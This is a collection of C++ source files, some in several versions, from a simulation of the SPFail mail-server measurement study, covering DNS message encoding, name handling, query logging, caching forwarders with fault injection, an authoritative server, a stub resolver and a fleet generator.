        if (target >= wire_.size()) throw WireError("pointer past end");
        if (!jumped) {
          return_pos = pos_;
          jumped = true;
        }
        seek(target);
        continue;
      }
      if ((len & 0xC0) != 0) throw WireError("reserved label type");
      labels.push_back(util::to_lower(text(len)));
      if (labels.size() > 128) throw WireError("name has too many labels");
    }
    if (jumped) seek(return_pos);
    // Labels are already lowercase and 1..63 octets by construction here;
    // lenient() tolerates punctuation observed in erroneous SPF expansions.
    if (labels.empty()) return Name::root();
    return Name::lenient(util::join(labels, "."));
  }

  void ensure(std::size_t n) const {
    if (pos_ + n > wire_.size()) throw WireError("truncated message");
  }

 private:
  const std::vector<std::uint8_t>& wire_;
  std::size_t pos_ = 0;
};

void encode_rr(Encoder& enc, const ResourceRecord& rr) {
  enc.name(rr.name);
  enc.u16(static_cast<std::uint16_t>(rr.type));
  enc.u16(static_cast<std::uint16_t>(rr.rrclass));
  enc.u32(rr.ttl);
  const std::size_t rdlength_at = enc.size();
  enc.u16(0);  // placeholder
  const std::size_t rdata_start = enc.size();

  std::visit(
      [&](const auto& rdata) {
        using T = std::decay_t<decltype(rdata)>;
        if constexpr (std::is_same_v<T, ARdata>) {
          enc.bytes(rdata.address.bytes().data(), 4);
        } else if constexpr (std::is_same_v<T, AaaaRdata>) {
          enc.bytes(rdata.address.bytes().data(), 16);
        } else if constexpr (std::is_same_v<T, MxRdata>) {
          enc.u16(rdata.preference);
          enc.name(rdata.exchange);
        } else if constexpr (std::is_same_v<T, TxtRdata>) {
          for (const auto& s : rdata.strings) {
            if (s.size() > 255) throw WireError("TXT string exceeds 255 octets");
            enc.u8(static_cast<std::uint8_t>(s.size()));
            enc.text(s);
          }
        } else if constexpr (std::is_same_v<T, CnameRdata>) {
          enc.name(rdata.target);
        } else if constexpr (std::is_same_v<T, NsRdata>) {
          enc.name(rdata.nameserver);
        } else if constexpr (std::is_same_v<T, SoaRdata>) {
          enc.name(rdata.mname);
          enc.name(rdata.rname);
          enc.u32(rdata.serial);
          enc.u32(rdata.refresh);
          enc.u32(rdata.retry);
          enc.u32(rdata.expire);
          enc.u32(rdata.minimum);
        } else if constexpr (std::is_same_v<T, PtrRdata>) {
          enc.name(rdata.target);
        } else if constexpr (std::is_same_v<T, OpaqueRdata>) {
          enc.bytes(rdata.bytes.data(), rdata.bytes.size());
        }
      },
      rr.rdata);

  enc.patch_u16(rdlength_at,
                static_cast<std::uint16_t>(enc.size() - rdata_start));
}

ResourceRecord decode_rr(Decoder& dec) {
  ResourceRecord rr;
  rr.name = dec.name();
  rr.type = static_cast<RRType>(dec.u16());
  rr.rrclass = static_cast<RRClass>(dec.u16());
  rr.ttl = dec.u32();
  const std::uint16_t rdlength = dec.u16();
  dec.ensure(rdlength);
  const std::size_t rdata_end = dec.pos() + rdlength;

  switch (rr.type) {
    case RRType::A: {
      if (rdlength != 4) throw WireError("A rdata must be 4 octets");
      const std::string raw = dec.text(4);
      rr.rdata = ARdata{util::IpAddress::v4(
          static_cast<std::uint8_t>(raw[0]), static_cast<std::uint8_t>(raw[1]),
          static_cast<std::uint8_t>(raw[2]), static_cast<std::uint8_t>(raw[3]))};
      break;
    }
    case RRType::AAAA: {
      if (rdlength != 16) throw WireError("AAAA rdata must be 16 octets");
      const std::string raw = dec.text(16);
      std::array<std::uint8_t, 16> bytes{};
      for (std::size_t i = 0; i < 16; ++i) {
        bytes[i] = static_cast<std::uint8_t>(raw[i]);
      }
      rr.rdata = AaaaRdata{util::IpAddress::v6(bytes)};
      break;
    }
    case RRType::MX: {
      MxRdata mx;
      mx.preference = dec.u16();
      mx.exchange = dec.name();
      rr.rdata = mx;
      break;
    }
    case RRType::TXT: {
      TxtRdata txt;
      while (dec.pos() < rdata_end) {
        const std::uint8_t len = dec.u8();
        txt.strings.push_back(dec.text(len));
      }
      rr.rdata = txt;
      break;
    }
    case RRType::CNAME:
      rr.rdata = CnameRdata{dec.name()};
      break;
    case RRType::NS:
      rr.rdata = NsRdata{dec.name()};
      break;
    case RRType::PTR:
      rr.rdata = PtrRdata{dec.name()};
      break;
    case RRType::SOA: {
      SoaRdata soa;
      soa.mname = dec.name();
      soa.rname = dec.name();
      soa.serial = dec.u32();
      soa.refresh = dec.u32();
      soa.retry = dec.u32();
      soa.expire = dec.u32();
      soa.minimum = dec.u32();
      rr.rdata = soa;
      break;
    }
    default: {
      OpaqueRdata opaque;
      const std::string raw = dec.text(rdlength);
      opaque.bytes.assign(raw.begin(), raw.end());
      rr.rdata = opaque;
      break;
    }
  }
  if (dec.pos() != rdata_end) throw WireError("rdata length mismatch");
  return rr;
}

}  // namespace

std::vector<std::uint8_t> encode(const Message& message) {
  Encoder enc;
  enc.u16(message.header.id);
  std::uint16_t flags = 0;
  if (message.header.qr) flags |= 0x8000;
  flags |= static_cast<std::uint16_t>(
      (static_cast<unsigned>(message.header.opcode) & 0xF) << 11);
  if (message.header.aa) flags |= 0x0400;
  if (message.header.tc) flags |= 0x0200;
  if (message.header.rd) flags |= 0x0100;
  if (message.header.ra) flags |= 0x0080;
  flags |= static_cast<std::uint16_t>(
      static_cast<unsigned>(message.header.rcode) & 0xF);
  enc.u16(flags);
  enc.u16(static_cast<std::uint16_t>(message.questions.size()));
  enc.u16(static_cast<std::uint16_t>(message.answers.size()));
  enc.u16(static_cast<std::uint16_t>(message.authorities.size()));
  enc.u16(static_cast<std::uint16_t>(message.additionals.size()));

  for (const auto& q : message.questions) {
    enc.name(q.qname);
    enc.u16(static_cast<std::uint16_t>(q.qtype));
    enc.u16(static_cast<std::uint16_t>(q.qclass));
  }
  for (const auto& rr : message.answers) encode_rr(enc, rr);
  for (const auto& rr : message.authorities) encode_rr(enc, rr);
  for (const auto& rr : message.additionals) encode_rr(enc, rr);
  return std::move(enc).take();
}

Message decode(const std::vector<std::uint8_t>& wire) {
  Decoder dec(wire);
  Message m;
  m.header.id = dec.u16();
  const std::uint16_t flags = dec.u16();
  m.header.qr = (flags & 0x8000) != 0;
  m.header.opcode = static_cast<Opcode>((flags >> 11) & 0xF);
  m.header.aa = (flags & 0x0400) != 0;
  m.header.tc = (flags & 0x0200) != 0;
  m.header.rd = (flags & 0x0100) != 0;
  m.header.ra = (flags & 0x0080) != 0;
  m.header.rcode = static_cast<Rcode>(flags & 0xF);
  const std::uint16_t qd = dec.u16();
  const std::uint16_t an = dec.u16();
  const std::uint16_t ns = dec.u16();
  const std::uint16_t ar = dec.u16();

  for (int i = 0; i < qd; ++i) {
    Question q;
    q.qname = dec.name();
    q.qtype = static_cast<RRType>(dec.u16());
    q.qclass = static_cast<RRClass>(dec.u16());
    m.questions.push_back(std::move(q));
  }
  for (int i = 0; i < an; ++i) m.answers.push_back(decode_rr(dec));
  for (int i = 0; i < ns; ++i) m.authorities.push_back(decode_rr(dec));
  for (int i = 0; i < ar; ++i) m.additionals.push_back(decode_rr(dec));
  if (dec.remaining() != 0) throw WireError("trailing bytes after message");
  return m;
}

}  // namespace spfail::dns
