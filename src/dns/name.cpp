#include "dns/name.hpp"

#include <ostream>
#include <stdexcept>

#include "util/strings.hpp"

namespace spfail::dns {

namespace {

constexpr std::size_t kMaxLabel = 63;
constexpr std::size_t kMaxName = 253;  // presentation form, no trailing dot

}  // namespace

Name Name::from_string(std::string_view text) {
  if (text == "." || text.empty()) return Name{};
  if (text.back() == '.') text.remove_suffix(1);
  if (text.size() > kMaxName) {
    throw std::invalid_argument("Name: exceeds 253 octets: " +
                                std::string(text.substr(0, 64)) + "...");
  }
  Name name;
  for (auto& label : util::split(text, '.')) {
    if (label.empty()) {
      throw std::invalid_argument("Name: empty label in '" + std::string(text) +
                                  "'");
    }
    if (label.size() > kMaxLabel) {
      throw std::invalid_argument("Name: label exceeds 63 octets in '" +
                                  std::string(text) + "'");
    }
    name.labels_.push_back(util::to_lower(label));
  }
  return name;
}

Name Name::lenient(std::string_view text) {
  if (text == "." || text.empty()) return Name{};
  if (text.back() == '.') text.remove_suffix(1);
  Name name;
  for (auto& label : util::split(text, '.')) {
    // Keep empty or oversized labels verbatim; these names exist only to be
    // observed and compared, never encoded to the wire.
    name.labels_.push_back(util::to_lower(label));
  }
  return name;
}

std::string Name::to_string() const {
  if (labels_.empty()) return ".";
  return util::join(labels_, ".");
}

std::size_t Name::wire_length() const noexcept {
  std::size_t len = 1;  // terminating root label
  for (const auto& label : labels_) len += 1 + label.size();
  return len;
}

Name Name::parent() const {
  Name p;
  if (labels_.size() > 1) {
    p.labels_.assign(labels_.begin() + 1, labels_.end());
  }
  return p;
}

Name Name::child(std::string_view label) const {
  Name c;
  c.labels_.reserve(labels_.size() + 1);
  c.labels_.push_back(util::to_lower(label));
  c.labels_.insert(c.labels_.end(), labels_.begin(), labels_.end());
  return c;
}

bool Name::is_subdomain_of(const Name& suffix) const noexcept {
  if (suffix.labels_.size() > labels_.size()) return false;
  const std::size_t offset = labels_.size() - suffix.labels_.size();
  for (std::size_t i = 0; i < suffix.labels_.size(); ++i) {
    if (labels_[offset + i] != suffix.labels_[i]) return false;
  }
  return true;
}

std::vector<std::string> Name::labels_relative_to(const Name& suffix) const {
  if (!is_subdomain_of(suffix)) {
    throw std::invalid_argument("labels_relative_to: " + to_string() +
                                " is not under " + suffix.to_string());
  }
  return {labels_.begin(),
          labels_.end() - static_cast<std::ptrdiff_t>(suffix.labels_.size())};
}

std::string Name::tld() const {
  return labels_.empty() ? std::string{} : labels_.back();
}

std::ostream& operator<<(std::ostream& os, const Name& name) {
  return os << name.to_string();
}

}  // namespace spfail::dns
