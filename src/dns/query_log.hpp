// The measurement instrument: a log of every query that reached the
// authoritative server, annotated with arrival time and querying endpoint.
//
// The SPFail detection technique classifies an MTA purely from the names it
// queries under the test domain, so everything downstream (scan::Classifier,
// the behaviour census in Table 7) reads this log.
#pragma once

#include <functional>
#include <optional>
#include <vector>

#include "dns/message.hpp"
#include "util/clock.hpp"
#include "util/ip.hpp"

namespace spfail::dns {

struct QueryLogEntry {
  util::SimTime time = 0;
  util::IpAddress client;
  Name qname;
  RRType qtype = RRType::A;
};

class QueryLog {
 public:
  void record(QueryLogEntry entry) { entries_.push_back(std::move(entry)); }

  const std::vector<QueryLogEntry>& entries() const noexcept { return entries_; }
  std::size_t size() const noexcept { return entries_.size(); }
  void clear() { entries_.clear(); }

  // All entries whose qname falls under `suffix` (the scan module filters by
  // its per-test unique label this way).
  std::vector<QueryLogEntry> under(const Name& suffix) const;

  // Entries matching an arbitrary predicate.
  std::vector<QueryLogEntry> matching(
      const std::function<bool(const QueryLogEntry&)>& pred) const;

 private:
  std::vector<QueryLogEntry> entries_;
};

}  // namespace spfail::dns
