// The measurement instrument: a log of every query that reached the
// authoritative server, annotated with arrival time and querying endpoint.
//
// The SPFail detection technique classifies an MTA purely from the names it
// queries under the test domain, so everything downstream (scan::Classifier,
// the behaviour census in Table 7) reads this log.
//
// Storage is compact (DESIGN.md §14): qnames repeat heavily — every retry,
// every ladder rung, every suite re-fetch asks for the same handful of names
// — so each entry stores a u32 Symbol into a per-log Interner instead of an
// owned label vector. Entries parse back into full QueryLogEntry values only
// when a consumer actually looks at them; the per-test verdict loop in
// scan::Prober filters by interned text first and materialises only the few
// entries under its unique label.
#pragma once

#include <functional>
#include <optional>
#include <string>
#include <vector>

#include "dns/message.hpp"
#include "util/clock.hpp"
#include "util/intern.hpp"
#include "util/ip.hpp"

namespace spfail::dns {

// The materialised view of one logged query. Consumers see this exact shape;
// it is built on demand from the compact stored form.
struct QueryLogEntry {
  util::SimTime time = 0;
  util::IpAddress client;
  Name qname;
  RRType qtype = RRType::A;
};

class QueryLog {
 public:
  void record(QueryLogEntry entry) {
    entries_.push_back(Compact{entry.time, entry.client,
                               names_.intern(entry.qname.to_string()),
                               entry.qtype});
  }

  // Materialises every entry. Callers that index repeatedly should take the
  // vector once; the reference-returning accessor is gone on purpose.
  std::vector<QueryLogEntry> entries() const;

  std::size_t size() const noexcept { return entries_.size(); }
  void clear() {
    entries_.clear();
    names_ = util::Interner();
  }

  // The qname intern table; its hit count is the number of deduplicated
  // qname copies this log avoided storing.
  const util::Interner& names() const noexcept { return names_; }

  // All entries whose qname falls under `suffix` (the scan module filters by
  // its per-test unique label this way).
  std::vector<QueryLogEntry> under(const Name& suffix) const;

  // Entries matching an arbitrary predicate.
  std::vector<QueryLogEntry> matching(
      const std::function<bool(const QueryLogEntry&)>& pred) const;

  // Non-allocating visitor over entries under `suffix`, optionally starting
  // at `first` (a cursor previously read from size()). Matching is a text
  // suffix check on the interned canonical form — equivalent to
  // Name::is_subdomain_of, but only matching entries pay for Name parsing.
  template <typename Fn>
  void for_each_under(const Name& suffix, Fn&& fn) const {
    for_each_under_from(0, suffix, std::forward<Fn>(fn));
  }

  template <typename Fn>
  void for_each_under_from(std::size_t first, const Name& suffix,
                           Fn&& fn) const {
    const std::string suffix_text = suffix.to_string();
    for (std::size_t i = first; i < entries_.size(); ++i) {
      if (text_under(names_.view(entries_[i].qname), suffix_text)) {
        fn(materialise(entries_[i]));
      }
    }
  }

  // Move every entry of `other` to the end of this log (the sharded scan
  // drains worker-lane logs back into the authoritative one in shard-index
  // order; the intern merge follows the same discipline).
  void splice(QueryLog&& other);

 private:
  struct Compact {
    util::SimTime time = 0;
    util::IpAddress client;
    util::Symbol qname = util::kInvalidSymbol;
    RRType qtype = RRType::A;
  };

  // Canonical-text equivalent of qname.is_subdomain_of(suffix): equal, or
  // ends with "." + suffix. The root suffix "." matches every name.
  static bool text_under(std::string_view name, std::string_view suffix_text) {
    if (suffix_text == ".") return true;
    if (name == suffix_text) return true;
    return name.size() > suffix_text.size() && name.ends_with(suffix_text) &&
           name[name.size() - suffix_text.size() - 1] == '.';
  }

  QueryLogEntry materialise(const Compact& e) const {
    return QueryLogEntry{e.time, e.client, Name::lenient(names_.view(e.qname)),
                         e.qtype};
  }

  std::vector<Compact> entries_;
  util::Interner names_;
};

}  // namespace spfail::dns
