// The measurement instrument: a log of every query that reached the
// authoritative server, annotated with arrival time and querying endpoint.
//
// The SPFail detection technique classifies an MTA purely from the names it
// queries under the test domain, so everything downstream (scan::Classifier,
// the behaviour census in Table 7) reads this log.
#pragma once

#include <functional>
#include <optional>
#include <vector>

#include "dns/message.hpp"
#include "util/clock.hpp"
#include "util/ip.hpp"

namespace spfail::dns {

struct QueryLogEntry {
  util::SimTime time = 0;
  util::IpAddress client;
  Name qname;
  RRType qtype = RRType::A;
};

class QueryLog {
 public:
  void record(QueryLogEntry entry) { entries_.push_back(std::move(entry)); }

  const std::vector<QueryLogEntry>& entries() const noexcept { return entries_; }
  std::size_t size() const noexcept { return entries_.size(); }
  void clear() { entries_.clear(); }

  // All entries whose qname falls under `suffix` (the scan module filters by
  // its per-test unique label this way).
  std::vector<QueryLogEntry> under(const Name& suffix) const;

  // Entries matching an arbitrary predicate.
  std::vector<QueryLogEntry> matching(
      const std::function<bool(const QueryLogEntry&)>& pred) const;

  // Non-allocating visitor over entries under `suffix`, optionally starting
  // at `first` (a cursor previously read from size()). The per-probe verdict
  // path runs this once per test, so no copies.
  template <typename Fn>
  void for_each_under(const Name& suffix, Fn&& fn) const {
    for_each_under_from(0, suffix, std::forward<Fn>(fn));
  }

  template <typename Fn>
  void for_each_under_from(std::size_t first, const Name& suffix,
                           Fn&& fn) const {
    for (std::size_t i = first; i < entries_.size(); ++i) {
      if (entries_[i].qname.is_subdomain_of(suffix)) fn(entries_[i]);
    }
  }

  // Move every entry of `other` to the end of this log (the sharded scan
  // drains worker-lane logs back into the authoritative one this way).
  void splice(QueryLog&& other);

 private:
  std::vector<QueryLogEntry> entries_;
};

}  // namespace spfail::dns
