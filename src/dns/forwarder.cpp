#include "dns/forwarder.hpp"

#include <algorithm>

#include "obs/lane.hpp"

namespace spfail::dns {

void CachingForwarder::inject_faults(const faults::FaultPlan* plan,
                                     faults::RetryConfig retry) {
  transport_.set_fault_plan(plan);
  if (retry.max_attempts == 0) retry.max_attempts = 3;
  retry_ = faults::RetryPolicy(retry);
}

Message CachingForwarder::handle(const Message& query,
                                 const util::IpAddress& client,
                                 util::SimTime now) {
  if (query.questions.size() != 1) {
    return Message::make_response(query, Rcode::FormErr);
  }
  const Question& q = query.questions.front();
  const auto key = std::make_pair(q.qname, q.qtype);

  const auto it = cache_.find(key);
  if (it != cache_.end() && it->second.expires > clock_.now()) {
    ++cache_hits_;
    obs::count("dns_cache_total",
               {{"component", "forwarder"}, {"result", "hit"}});
    Message response = it->second.response;
    response.header.id = query.header.id;  // match the client's transaction
    return response;
  }

  // Faults live on the upstream path, after the cache miss. A faulted
  // attempt is retried per the policy; if every attempt faults, the client
  // sees SERVFAIL and nothing is cached. Each attempt — faulted or not —
  // crosses the transport, so a wire trace shows the retries.
  for (int tried = 0;;) {
    const faults::FaultDecision fault =
        transport_.next_dns_fault(q.qname, q.qtype);
    if (!fault.is_dns_fault()) break;  // this attempt reaches the upstream
    ++tried;
    ++injected_faults_;
    if (!retry_.allow_retry(tried, /*budget_left=*/1)) {
      return transport_.exchange(upstream_, query, self_, upstream_endpoint_,
                                 client, fault);
    }
    transport_.exchange(upstream_, query, self_, upstream_endpoint_, client,
                        fault);
    ++fault_retries_;
    obs::count("dns_fault_retries_total", {{"component", "forwarder"}});
  }

  ++upstream_queries_;
  obs::count("dns_cache_total",
             {{"component", "forwarder"}, {"result", "miss"}});
  const Message response =
      transport_.exchange(upstream_, query, self_, upstream_endpoint_, client);

  util::SimTime ttl = 300;
  for (const auto& rr : response.answers) {
    ttl = std::min<util::SimTime>(ttl, rr.ttl);
  }
  cache_[key] = Entry{clock_.now() + ttl, response};
  return response;
}

}  // namespace spfail::dns
