#include "dns/forwarder.hpp"

#include <algorithm>

namespace spfail::dns {

Message CachingForwarder::handle(const Message& query,
                                 const util::IpAddress& client,
                                 util::SimTime now) {
  if (query.questions.size() != 1) {
    return Message::make_response(query, Rcode::FormErr);
  }
  const Question& q = query.questions.front();
  const auto key = std::make_pair(q.qname, q.qtype);

  const auto it = cache_.find(key);
  if (it != cache_.end() && it->second.expires > clock_.now()) {
    ++cache_hits_;
    Message response = it->second.response;
    response.header.id = query.header.id;  // match the client's transaction
    return response;
  }

  ++upstream_queries_;
  const Message response = upstream_.handle(query, client, now);

  util::SimTime ttl = 300;
  for (const auto& rr : response.answers) {
    ttl = std::min<util::SimTime>(ttl, rr.ttl);
  }
  cache_[key] = Entry{clock_.now() + ttl, response};
  return response;
}

}  // namespace spfail::dns
