#include "dns/forwarder.hpp"

#include <algorithm>

#include "util/rng.hpp"

namespace spfail::dns {

void CachingForwarder::inject_faults(const faults::FaultPlan* plan,
                                     faults::RetryConfig retry) {
  plan_ = plan;
  if (retry.max_attempts == 0) retry.max_attempts = 3;
  retry_ = faults::RetryPolicy(retry);
}

Message CachingForwarder::handle(const Message& query,
                                 const util::IpAddress& client,
                                 util::SimTime now) {
  if (query.questions.size() != 1) {
    return Message::make_response(query, Rcode::FormErr);
  }
  const Question& q = query.questions.front();
  const auto key = std::make_pair(q.qname, q.qtype);

  const auto it = cache_.find(key);
  if (it != cache_.end() && it->second.expires > clock_.now()) {
    ++cache_hits_;
    Message response = it->second.response;
    response.header.id = query.header.id;  // match the client's transaction
    return response;
  }

  if (plan_ != nullptr && plan_->enabled()) {
    // Faults live on the upstream path, after the cache miss. A faulted
    // attempt is retried per the policy; if every attempt faults, the
    // client sees SERVFAIL and nothing is cached.
    const std::uint64_t qname_hash = util::fnv1a(q.qname.to_string());
    std::uint64_t& attempts = attempt_counters_[key];
    for (int tried = 0;;) {
      const faults::FaultDecision fault = plan_->dns_decision(
          qname_hash, static_cast<std::uint16_t>(q.qtype), attempts++);
      ++tried;
      if (fault.kind != faults::FaultKind::DnsServfail &&
          fault.kind != faults::FaultKind::DnsTimeout &&
          fault.kind != faults::FaultKind::LameDelegation) {
        break;  // this attempt goes through to the upstream
      }
      ++injected_faults_;
      if (!retry_.allow_retry(tried, /*budget_left=*/1)) {
        return Message::make_response(query, Rcode::ServFail);
      }
      ++fault_retries_;
    }
  }

  ++upstream_queries_;
  const Message response = upstream_.handle(query, client, now);

  util::SimTime ttl = 300;
  for (const auto& rr : response.answers) {
    ttl = std::min<util::SimTime>(ttl, rr.ttl);
  }
  cache_[key] = Entry{clock_.now() + ttl, response};
  return response;
}

}  // namespace spfail::dns
