#include "dns/server.hpp"

#include <algorithm>
#include <stdexcept>

namespace spfail::dns {

thread_local AuthoritativeServer::LaneState AuthoritativeServer::lane_;

AuthoritativeServer::LogLane::LogLane(const AuthoritativeServer& server,
                                      QueryLog& lane) {
  if (lane_.server != nullptr) {
    throw std::logic_error(
        "AuthoritativeServer::LogLane: a lane is already active on this thread");
  }
  lane_.server = &server;
  lane_.log = &lane;
}

AuthoritativeServer::LogLane::~LogLane() {
  lane_.server = nullptr;
  lane_.log = nullptr;
}

void AuthoritativeServer::add_zone(Zone zone) {
  zones_.push_back(std::move(zone));
  // Longest origin first so the most specific zone wins.
  std::stable_sort(zones_.begin(), zones_.end(), [](const Zone& a, const Zone& b) {
    return a.origin().label_count() > b.origin().label_count();
  });
}

Zone* AuthoritativeServer::find_zone(const Name& origin) {
  for (auto& z : zones_) {
    if (z.origin() == origin) return &z;
  }
  return nullptr;
}

void AuthoritativeServer::add_responder(const Name& suffix,
                                        DynamicResponder responder) {
  responders_.emplace_back(suffix, std::move(responder));
  std::stable_sort(responders_.begin(), responders_.end(),
                   [](const auto& a, const auto& b) {
                     return a.first.label_count() > b.first.label_count();
                   });
}

Message AuthoritativeServer::handle(const Message& query,
                                    const util::IpAddress& client,
                                    util::SimTime now) {
  if (query.questions.size() != 1) {
    return Message::make_response(query, Rcode::FormErr);
  }
  const Question& q = query.questions.front();
  active_log().record(QueryLogEntry{now, client, q.qname, q.qtype});

  // Dynamic responders take precedence (the measurement domain is synthetic).
  for (const auto& [suffix, responder] : responders_) {
    if (!q.qname.is_subdomain_of(suffix)) continue;
    const auto records = responder(q.qname, q.qtype);
    if (!records.has_value()) {
      return Message::make_response(query, Rcode::NxDomain);
    }
    Message response = Message::make_response(query, Rcode::NoError);
    response.answers = *records;
    return response;
  }

  for (const auto& zone : zones_) {
    if (!q.qname.is_subdomain_of(zone.origin())) continue;

    // Delegation check first: at or below a zone cut, answer with a
    // referral (authority section NS + any in-zone glue), not with data.
    if (const auto delegation = zone.delegation_for(q.qname)) {
      Message response = Message::make_response(query, Rcode::NoError);
      response.header.aa = false;
      response.authorities = *delegation;
      for (const auto& ns : *delegation) {
        const Name& host = std::get<NsRdata>(ns.rdata).nameserver;
        if (!host.is_subdomain_of(zone.origin())) continue;
        const LookupResult glue = zone.lookup(host, RRType::A);
        for (const auto& rr : glue.records) response.additionals.push_back(rr);
      }
      return response;
    }

    const LookupResult result = zone.lookup(q.qname, q.qtype);
    switch (result.status) {
      case LookupResult::Status::Success: {
        Message response = Message::make_response(query, Rcode::NoError);
        response.answers = result.records;
        return response;
      }
      case LookupResult::Status::NoData:
        return Message::make_response(query, Rcode::NoError);
      case LookupResult::Status::NxDomain:
        return Message::make_response(query, Rcode::NxDomain);
    }
  }
  return Message::make_response(query, Rcode::Refused);
}

}  // namespace spfail::dns
