#include "dns/record.hpp"

#include <stdexcept>

namespace spfail::dns {

std::string to_string(RRType type) {
  switch (type) {
    case RRType::A:
      return "A";
    case RRType::NS:
      return "NS";
    case RRType::CNAME:
      return "CNAME";
    case RRType::SOA:
      return "SOA";
    case RRType::PTR:
      return "PTR";
    case RRType::MX:
      return "MX";
    case RRType::TXT:
      return "TXT";
    case RRType::AAAA:
      return "AAAA";
    case RRType::ANY:
      return "ANY";
  }
  return "TYPE" + std::to_string(static_cast<int>(type));
}

std::string TxtRdata::joined() const {
  std::string out;
  for (const auto& s : strings) out += s;
  return out;
}

TxtRdata TxtRdata::from_text(std::string_view text) {
  TxtRdata rdata;
  while (text.size() > 255) {
    rdata.strings.emplace_back(text.substr(0, 255));
    text.remove_prefix(255);
  }
  rdata.strings.emplace_back(text);
  return rdata;
}

ResourceRecord ResourceRecord::a(const Name& name, util::IpAddress ip,
                                 std::uint32_t ttl) {
  if (!ip.is_v4()) throw std::invalid_argument("A record needs a v4 address");
  return {name, RRType::A, RRClass::IN, ttl, ARdata{ip}};
}

ResourceRecord ResourceRecord::aaaa(const Name& name, util::IpAddress ip,
                                    std::uint32_t ttl) {
  if (!ip.is_v6()) throw std::invalid_argument("AAAA record needs a v6 address");
  return {name, RRType::AAAA, RRClass::IN, ttl, AaaaRdata{ip}};
}

ResourceRecord ResourceRecord::mx(const Name& name, std::uint16_t pref,
                                  const Name& exchange, std::uint32_t ttl) {
  return {name, RRType::MX, RRClass::IN, ttl, MxRdata{pref, exchange}};
}

ResourceRecord ResourceRecord::txt(const Name& name, std::string_view text,
                                   std::uint32_t ttl) {
  return {name, RRType::TXT, RRClass::IN, ttl, TxtRdata::from_text(text)};
}

ResourceRecord ResourceRecord::cname(const Name& name, const Name& target,
                                     std::uint32_t ttl) {
  return {name, RRType::CNAME, RRClass::IN, ttl, CnameRdata{target}};
}

}  // namespace spfail::dns
