// Stub resolver with a positive/negative cache.
//
// Each simulated MTA owns a StubResolver pointing at the simulation's
// authoritative service. The cache matters to the study design: the paper's
// per-test unique labels exist precisely so that no recursive cache can
// absorb the measurement queries (ablated in bench_ablation_labels).
#pragma once

#include <map>
#include <memory>

#include "dns/server.hpp"
#include "net/transport.hpp"
#include "util/clock.hpp"

namespace spfail::dns {

struct ResolveResult {
  Rcode rcode = Rcode::ServFail;
  std::vector<ResourceRecord> answers;

  bool ok() const noexcept { return rcode == Rcode::NoError; }
};

class StubResolver {
 public:
  // `clock` and `service` must outlive the resolver.
  StubResolver(DnsService& service, const util::SimClock& clock,
               util::IpAddress client_address, bool enable_cache = true)
      : service_(service),
        clock_(clock),
        transport_(clock),
        client_(client_address),
        self_(net::Endpoint::ip(client_address)),
        upstream_(net::Endpoint::named("authority")),
        cache_enabled_(enable_cache) {}

  ResolveResult query(const Name& qname, RRType qtype);

  // The wire transport cache misses go out on. Attach a fault plan here
  // (transport().set_fault_plan) to make this resolver's upstream queries
  // face injected SERVFAILs — the stub has no retry loop, so a faulted
  // query surfaces directly (the old FaultInjectingService topology).
  net::Transport& transport() noexcept { return transport_; }
  const net::Transport& transport() const noexcept { return transport_; }

  // Typed conveniences, each following CNAME records present in the answer.
  std::vector<util::IpAddress> addresses(const Name& qname);  // A + AAAA
  std::vector<MxRdata> mx(const Name& qname);
  std::vector<std::string> txt(const Name& qname);

  std::size_t cache_hits() const noexcept { return cache_hits_; }
  std::size_t cache_misses() const noexcept { return cache_misses_; }
  std::size_t queries_sent() const noexcept { return cache_misses_; }
  void flush_cache() { cache_.clear(); }

  const util::IpAddress& client_address() const noexcept { return client_; }

 private:
  struct CacheEntry {
    util::SimTime expires = 0;
    ResolveResult result;
  };

  DnsService& service_;
  const util::SimClock& clock_;
  net::Transport transport_;
  util::IpAddress client_;
  net::Endpoint self_;
  net::Endpoint upstream_;
  bool cache_enabled_;
  std::map<std::pair<Name, RRType>, CacheEntry> cache_;
  std::size_t cache_hits_ = 0;
  std::size_t cache_misses_ = 0;
  std::uint16_t next_id_ = 1;
};

}  // namespace spfail::dns
