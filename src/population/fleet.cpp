#include "population/fleet.hpp"

#include <algorithm>
#include <array>
#include <cmath>
#include <set>
#include <stdexcept>

#include "dkim/dkim.hpp"
#include "population/paper_constants.hpp"

namespace spfail::population {

namespace {

// Address-level funnel rates per domain set (Table 3; see paper_constants).
struct FunnelRates {
  double refused;
  double smtp_failure;     // of NoMsg-tested
  double nomsg_measured;   // of NoMsg-tested (validates at MAIL FROM)
  double blank_failure;    // of BlankMsg-tested (breaks at/after DATA)
  double blank_measured;   // of BlankMsg-tested (validates after DATA)
  double vulnerable_of_measured;
  double erroneous_of_measured;
};

constexpr FunnelRates kAlexaRates = {
    paper::kAlexaAddrRefused,       paper::kAlexaAddrSmtpFailure,
    paper::kAlexaAddrNoMsgMeasured, paper::kAlexaAddrBlankFailure,
    paper::kAlexaAddrBlankMeasured, paper::kAlexaVulnerableOfMeasured,
    paper::kAlexaErroneousNonVulnOfMeasured};

constexpr FunnelRates kMxRates = {
    paper::kMxAddrRefused,       paper::kMxAddrSmtpFailure,
    paper::kMxAddrNoMsgMeasured, paper::kMxAddrBlankFailure,
    paper::kMxAddrBlankMeasured, paper::kMxVulnerableOfMeasured,
    paper::kMxErroneousNonVulnOfMeasured};

// Figure 4: the bottom rank bucket holds roughly twice the vulnerable
// servers of the top bucket; interpolate the multiplier across percentiles.
// The very top of the list (the Alexa Top 1000, percentile <= 0.25%) is
// suppressed harder still — §7.5 found only 28 of those 1000 domains
// vulnerable, well below the gradient's extrapolation.
double rank_multiplier(double rank_percentile) {
  if (rank_percentile <= 0.0025) return 0.30;
  return 0.65 + 0.70 * rank_percentile;
}

spfvuln::SpfBehavior pick_erroneous(util::Rng& rng) {
  const double weights[] = {
      paper::kErrNoExpansionWeight, paper::kErrNoTruncationWeight,
      paper::kErrNoReversalWeight, paper::kErrNoTransformersWeight,
      paper::kErrOtherWeight};
  switch (rng.weighted_index(weights)) {
    case 0:
      return spfvuln::SpfBehavior::NoExpansion;
    case 1:
      return spfvuln::SpfBehavior::NoTruncation;
    case 2:
      return spfvuln::SpfBehavior::NoReversal;
    case 3:
      return spfvuln::SpfBehavior::NoTransformers;
    default:
      return spfvuln::SpfBehavior::OtherErroneous;
  }
}

}  // namespace

// The mutable shape the generator works in; finalise() interns the strings
// and flattens the address lists, then this is thrown away.
struct Fleet::StagingDomain {
  std::string name;
  std::string tld;
  std::string provider_name;
  bool in_alexa = false;
  bool in_alexa1000 = false;
  bool in_mx = false;
  bool is_top_provider = false;
  std::size_t alexa_rank = 0;
  std::size_t mx_query_count = 0;
